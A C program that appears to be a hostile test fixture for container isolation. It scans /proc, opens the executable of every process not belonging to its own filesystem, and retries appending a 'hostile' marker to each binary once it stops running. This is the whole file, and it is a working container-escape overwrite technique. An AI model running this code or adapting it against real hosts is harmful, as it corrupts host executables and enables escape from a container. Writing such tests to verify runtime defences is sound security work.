// overwrite, inside: opens the program of each process that is none of this root file system's, and writes to it as soon as nothing
// executes it any more.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int one_of_ours(const struct stat *is)
{
    static const char *programs[] = { "/bin/busybox", "/hostile/overwrite" };
    struct stat own;
    for (int i = 0; i < 2; i++)
        if (stat(programs[i], &own) == 0 && own.st_ino == is->st_ino && own.st_dev == is->st_dev) return 1;
    return 0;
}

static void write_to(int program)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
    for (int i = 0; i < 20000; i++) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            if (write(fd, "hostile\n", 8) == 8) { close(fd); return; }
            close(fd);
        } else if (errno != ETXTBSY) return;
        usleep(50);
    }
}

int main(void)
{
    close(open("/tmp/trying", O_WRONLY | O_CREAT, 0666));
    for (;;) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while (processes && (entry = readdir(processes))) {
            char path[64];
            struct stat is;
            int pid = atoi(entry->d_name), fd;
            if (pid <= 1) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            if (fstat(fd, &is) == 0 && !one_of_ours(&is)) write_to(fd);
            close(fd);
        }
        closedir(processes);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
}
